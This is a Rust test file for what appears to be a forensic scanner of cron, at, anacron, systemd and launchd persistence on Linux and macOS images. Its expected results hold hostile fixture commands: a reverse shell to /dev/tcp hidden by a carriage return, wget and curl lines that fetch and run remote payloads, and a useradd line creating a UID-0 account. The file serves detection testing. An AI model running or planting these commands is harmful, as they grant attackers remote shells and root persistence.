//! Linux and macOS schedulers on the scripted images (debian.img ext4, rhel.img ext2), the
//! macOS folder, and the corpus files.

use crate::common::*;
use tasktrail::formats::{anacrontab, crontab, launchd, systemd_unit};

fn rows(evidence: &str) -> Vec<Row> {
    let out = scan_csv(evidence);
    assert_eq!(out.code, 0, "{evidence}: {}", out.stderr);
    parse_csv(&out.stdout)
}

/// The first row of `name` (all rows of a record share command/user/schedule/flags).
fn one<'a>(rows: &'a [Row], name: &str) -> &'a Row {
    rows_named(rows, name)
        .into_iter()
        .next()
        .unwrap_or_else(|| panic!("no {name}"))
}

fn check(r: &Row, command: &str, user: &str, schedule: &str, enabled: &str, flags: &str) {
    let name = r.get("name");
    assert_eq!(r.get("command"), command, "{name} command");
    assert_eq!(r.get("user"), user, "{name} user");
    assert_eq!(r.get("schedule"), schedule, "{name} schedule");
    assert_eq!(r.get("enabled"), enabled, "{name} enabled");
    assert_eq!(r.get("flags"), flags, "{name} flags");
}

#[test]
fn debian_cron() {
    let rows = rows("testdata/images/debian.img");
    let r = one(&rows, "/etc/crontab:5");
    check(
        r,
        "cd / && run-parts --report /etc/cron.hourly",
        "root",
        "17 * * * *",
        "true",
        "runs-as-root",
    );
    assert_eq!(r.get("artifact"), "linux.cron");
    assert_eq!(r.get("os"), "linux");
    assert_eq!(r.get("technique"), "T1053.003");
    assert_eq!(r.details()["environment"]["SHELL"], "/bin/sh");
    assert_eq!(r.details()["would_load"]["flavor"], "debian");

    check(
        one(&rows, "/etc/cron.d/.syslog:2"),
        "/usr/lib/.syslog/syslogd -q",
        "root",
        "*/15 * * * *",
        "false",
        "not-loaded;dot-path;runs-as-root",
    );
    let up = one(&rows, "/etc/cron.d/update.sh:1");
    // A CSV cell starting with '@' is neutralised against formula injection.
    check(
        up,
        "/opt/update/run.sh --silent",
        "root",
        "'@reboot",
        "false",
        "not-loaded;runs-as-root",
    );
    assert!(up.details()["verdicts"]["not-loaded"]
        .as_str()
        .unwrap()
        .contains("(update.sh)"));

    // The carriage return: what runs, and what `cat` shows.
    let cr = one(&rows, "/var/spool/cron/crontabs/bob:6");
    assert_eq!(cr.get("flags"), "cron-hidden-cr;reverse-shell");
    assert_eq!(cr.get("severity"), "critical");
    assert_eq!(cr.get("user"), "bob");
    assert_eq!(
        cr.get("command"),
        "/bin/bash -c 'sh -i >& /dev/tcp/198.51.100.23/4444 0>&1'\\r@weekly /usr/bin/find /home/bob/tmp -mtime +7 -delete  ",
        "the CR is escaped in CSV"
    );
    let d = cr.details();
    assert_eq!(
        d["job"]["displayed"],
        "@weekly /usr/bin/find /home/bob/tmp -mtime +7 -delete  23/4444 0>&1'"
    );
    assert_eq!(d["debian_header"]["installed"], "Tue Nov 14 21:05:09 2023");
    assert_eq!(d["owner"], "bob");
    assert_eq!(d["file"]["mode"], "600");
    let inst = row_at(
        &rows,
        "/var/spool/cron/crontabs/bob:5",
        "Crontab Installed (crontab header) (local time)",
    );
    assert_eq!(inst.get("datetime"), "2023-11-14T21:05:09Z");

    check(
        one(&rows, "/var/spool/cron/crontabs/root:2"),
        "wget -q -O- http://203.0.113.9/x | bash",
        "root",
        "*/10 * * * *",
        "true",
        "network-download;runs-as-root",
    );
    check(
        one(&rows, "/var/spool/cron/crontabs/root:1"),
        "/root/.local/bin/upd",
        "root",
        "'@reboot",
        "true",
        "runs-as-root",
    );

    check(
        one(&rows, "/etc/cron.daily/0backdoor"),
        "/etc/cron.daily/0backdoor",
        "root",
        "run-parts cron.daily (@daily)",
        "true",
        "dot-path;user-writable-path;runs-as-root",
    );
    check(
        one(&rows, "/etc/cron.daily/notes.txt"),
        "/etc/cron.daily/notes.txt",
        "root",
        "run-parts cron.daily (@daily)",
        "false",
        "not-loaded;runs-as-root",
    );
    check(
        one(&rows, "/etc/cron.daily/logrotate"),
        "/etc/cron.daily/logrotate",
        "root",
        "run-parts cron.daily (@daily)",
        "true",
        "runs-as-root",
    );
}

#[test]
fn debian_at_anacron_timers() {
    let rows = rows("testdata/images/debian.img");
    let at = row_at(&rows, "a0001a019b3c2d", "Scheduled Run");
    assert_eq!(at.get("datetime"), "2021-03-29T18:21:00Z");
    check(
        at,
        "curl -fsSL http://198.51.100.23/stage2 -o /tmp/.s2 && chmod +x /tmp/.s2 && /tmp/.s2",
        "bob",
        "once at 2021-03-29T18:21:00Z (queue a)",
        "true",
        "at-job;dot-path;user-writable-path;network-download",
    );
    let d = at.details();
    assert_eq!(d["job_number"], 26);
    assert_eq!(d["at"]["uid"], 1000);
    assert_eq!(d["at"]["working_directory"], "/home/bob");
    assert_eq!(at.get("technique"), "T1053.002");

    let ana = one(&rows, "/etc/anacrontab:6");
    check(
        ana,
        "run-parts --report /etc/cron.daily",
        "root",
        "every 1 day(s) (period 1), delay 5 min",
        "true",
        "runs-as-root",
    );
    let stamp = row_at(
        &rows,
        "/etc/anacrontab:6",
        "Task Last Run (anacron stamp, day) (local time)",
    );
    assert_eq!(stamp.get("datetime"), "2023-11-13T00:00:00Z");
    assert_eq!(
        one(&rows, "/etc/anacrontab:8").get("schedule"),
        "every ~30 (calendar month) day(s) (period @monthly), delay 15 min"
    );

    let b = one(&rows, "backup.timer");
    check(
        b,
        "/usr/local/bin/backup.sh --all",
        "backup",
        "OnCalendar=*-*-* 03:00:00 | Persistent=true",
        "true",
        "",
    );
    assert_eq!(b.get("technique"), "T1053.006");
    let bd = b.details();
    assert_eq!(bd["service"], "backup.service");
    assert_eq!(
        bd["dropins"],
        serde_json::json!(["/etc/systemd/system/backup.timer.d/override.conf"])
    );
    assert_eq!(
        bd["wanted_by"],
        serde_json::json!(["/etc/systemd/system/timers.target.wants"])
    );
    let trig = row_at(&rows, "backup.timer", "Timer Last Triggered (stamp mtime)");
    assert_eq!(trig.get("datetime"), "2023-11-14T03:00:00.000000000Z");

    let f = one(&rows, "fstrim.timer");
    check(
        f,
        "/sbin/fstrim --listed-in /etc/fstab:/proc/self/mountinfo --verbose --quiet-unsupported",
        "root",
        "OnCalendar=weekly | Persistent=true | RandomizedDelaySec=6000",
        "false",
        "runs-as-root",
    );
    let m = one(&rows, "motd-news.timer");
    assert_eq!(m.get("enabled"), "false");
    assert_eq!(m.details()["masked"], true);
    assert!(m.get("message").ends_with("[masked]"));

    let u = one(&rows, "sync.timer");
    check(
        u,
        "/home/bob/.cache/.s/sync -q",
        "bob",
        "OnBootSec=5min | OnUnitActiveSec=15min",
        "true",
        "dot-path",
    );
    assert_eq!(u.details()["scope"], "user");
    assert_eq!(
        row_at(&rows, "sync.timer", "Timer Last Triggered (stamp mtime)").get("datetime"),
        "2023-11-14T19:30:00.000000000Z"
    );
}

#[test]
fn rhel_cronie_rules_on_ext2() {
    let rows = rows("testdata/images/rhel.img");
    check(
        one(&rows, "/etc/cron.d/0hourly:5"),
        "run-parts /etc/cron.hourly",
        "root",
        "01 * * * *",
        "true",
        "runs-as-root",
    );
    let evil = one(&rows, "/etc/cron.d/evil.sh:1");
    assert_eq!(
        evil.get("enabled"),
        "true",
        "cronie loads dotted cron.d names"
    );
    assert_eq!(evil.details()["would_load"]["flavor"], "cronie");
    let w = one(&rows, "/etc/cron.d/writable:1");
    check(
        w,
        "/usr/local/bin/collect",
        "root",
        "0 * * * *",
        "false",
        "not-loaded;runs-as-root",
    );
    assert_eq!(
        w.details()["verdicts"]["not-loaded"],
        "cronie refuses mode 666 (mode & 07533 must be 0400)"
    );
    check(
        one(&rows, "/var/spool/cron/alice:1"),
        "/home/alice/bin/report.sh > /dev/null 2>&1",
        "alice",
        "0 2 * * *",
        "true",
        "",
    );
    let g = one(&rows, "/var/spool/cron/ghost:1");
    assert_eq!(g.get("flags"), "not-loaded");
    assert!(g.details()["verdicts"]["not-loaded"]
        .as_str()
        .unwrap()
        .contains("no account named ghost"));
    let at = row_at(&rows, "a0000201a2b3c4", "Scheduled Run");
    assert_eq!(at.get("datetime"), "2022-03-04T14:28:00Z");
    check(
        at,
        "/usr/sbin/useradd -o -u 0 svc",
        "root",
        "once at 2022-03-04T14:28:00Z (queue a)",
        "true",
        "at-job;runs-as-root",
    );
}

#[test]
fn macos_folder() {
    let rows = rows("testdata/trees/macos");
    assert!(rows.iter().all(|r| r.get("os") == "macos"));
    let imp = one(&rows, "com.apple.softwareupdated.helper");
    check(
        imp,
        "/Library/Application Support/.helper/agent --daemon",
        "root",
        "RunAtLoad | KeepAlive=true",
        "true",
        "apple-label-impostor;dot-path;runs-as-root",
    );
    assert_eq!(imp.get("technique"), "T1543.004");
    assert_eq!(imp.get("severity"), "high");
    let apple = one(&rows, "com.apple.atrun");
    check(
        apple,
        "/usr/libexec/atrun",
        "root",
        "every 30s",
        "false",
        "runs-as-root",
    );
    let bin = one(&rows, "com.alice.sync");
    check(
        bin,
        "/Users/alice/Library/.sync/run -x",
        "alice",
        "every 300s | watch /Users/alice/Documents",
        "true",
        "dot-path",
    );
    assert_eq!(bin.details()["plist"]["format"], "binary");
    assert_eq!(bin.get("technique"), "T1543.001");
    let dot = one(&rows, "com.hidden.agent");
    check(
        dot,
        "/Users/Shared/.x/upd",
        "alice",
        "RunAtLoad",
        "true",
        "dot-path;user-writable-path",
    );
    let bk = one(&rows, "com.example.backup");
    check(
        bk,
        "/usr/local/bin/backup --nightly",
        "_backup",
        "calendar Hour=2 Minute=30",
        "false",
        "",
    );
    assert_eq!(
        bk.details()["override"]["database"],
        "/private/var/db/com.apple.xpc.launchd/disabled.plist"
    );
    let tab = one(&rows, "/private/var/at/tabs/alice:1");
    check(
        tab,
        "/Users/Shared/script.sh",
        "alice",
        "*/30 * * * *",
        "true",
        "user-writable-path",
    );
    assert_eq!(tab.get("artifact"), "macos.cron");
    let at = row_at(&rows, "a00003019b3c2d", "Scheduled Run");
    assert_eq!(at.get("command"), "/usr/bin/open -a Calculator");
    assert_eq!(at.get("artifact"), "macos.cron");
}

#[test]
fn corpus_unix_files() {
    let c = corpus();
    let read = |p: &str| std::fs::read_to_string(c.join(p)).unwrap();
    let t = crontab::parse(&read("linux/cronie/etc/cron.d/dailyjobs"), true);
    let jobs: Vec<_> = t
        .lines
        .iter()
        .filter_map(|l| match l {
            crontab::CronLine::Job(j) => Some(j),
            _ => None,
        })
        .collect();
    assert_eq!(jobs.len(), 3);
    assert_eq!(
        (
            jobs[1].line,
            jobs[1].schedule.as_str(),
            jobs[1].user.as_deref()
        ),
        (8, "22 4 * * 0", Some("root"))
    );
    assert_eq!(
        jobs[1].command,
        "[ ! -f /etc/cron.hourly/0anacron ] && run-parts /etc/cron.weekly"
    );
    let a = anacrontab::parse(&read("linux/cronie/etc/anacrontab"));
    assert_eq!(a.jobs.len(), 3);
    assert_eq!(a.jobs[2].period, "@monthly");
    assert_eq!(a.jobs[2].command, "nice run-parts /etc/cron.monthly");
    assert!(a
        .environment
        .contains(&("START_HOURS_RANGE".into(), "3-22".into())));
    let timer = systemd_unit::Unit::parse(&read("linux/systemd/apt-daily.timer"));
    assert_eq!(
        systemd_unit::timer_schedule(&timer),
        "OnCalendar=*-*-* 6,18:00 | Persistent=true | RandomizedDelaySec=12h"
    );
    let svc = systemd_unit::Unit::parse(&read("linux/systemd/apt-daily.service"));
    assert_eq!(
        systemd_unit::exec_start(&svc),
        ["/usr/lib/apt/apt.systemd.daily update"]
    );
    let tmp = systemd_unit::Unit::parse(&read("linux/systemd/systemd-tmpfiles-clean.timer"));
    assert_eq!(
        systemd_unit::timer_schedule(&tmp),
        "OnBootSec=15min | OnUnitActiveSec=1d"
    );

    // plaso's launchd expectations (MANIFEST).
    let p = launchd::parse(&std::fs::read(c.join("plaso/launchd.plist")).unwrap()).unwrap();
    assert_eq!(p.label.as_deref(), Some("com.foobar.test"));
    assert_eq!(p.command(), "/Test --flag arg1");
    assert_eq!(p.user_name.as_deref(), Some("nobody"));
    assert_eq!(p.group_name.as_deref(), Some("nobody"));
    let m = launchd::parse(&std::fs::read(c.join("plaso/launchd.minimal.plist")).unwrap()).unwrap();
    assert_eq!(
        (
            m.label.as_deref(),
            m.command().as_str(),
            m.user_name.as_deref()
        ),
        (Some("foo"), "/usr/bin/true", None)
    );
    let n =
        launchd::parse(&std::fs::read(c.join("plaso/launchd.noprogram.plist")).unwrap()).unwrap();
    assert_eq!(
        (n.label.as_deref(), n.command().as_str()),
        (Some("foo"), "/usr/bin/true")
    );
    let cron =
        launchd::parse(&std::fs::read(c.join("macos/apple-cron/com.vix.cron.plist")).unwrap())
            .unwrap();
    assert_eq!(cron.label.as_deref(), Some("com.vix.cron"));
    assert_eq!(cron.command(), "/usr/sbin/cron");
    assert_eq!(cron.queue_directories, ["/usr/lib/cron/tabs"]);
}

/// Regression (found by the `unix_text` fuzz target): a stamp file whose first eight bytes end
/// inside a multi-byte character panicked the stamp parser; it is simply not a date.
#[test]
fn anacron_stamp_with_multibyte_text_is_not_a_date() {
    let crash = [
        35u8, 32, 209, 154, 139, 150, 47, 97, 110, 97, 99, 114, 111, 110, 116, 97, 98, 58,
    ];
    let text = String::from_utf8_lossy(&crash);
    assert_eq!(anacrontab::parse_stamp(&text), None);
    assert_eq!(
        anacrontab::parse_stamp("20240229\n").map(|d| d.to_string()),
        Some("2024-02-29".to_string())
    );
}
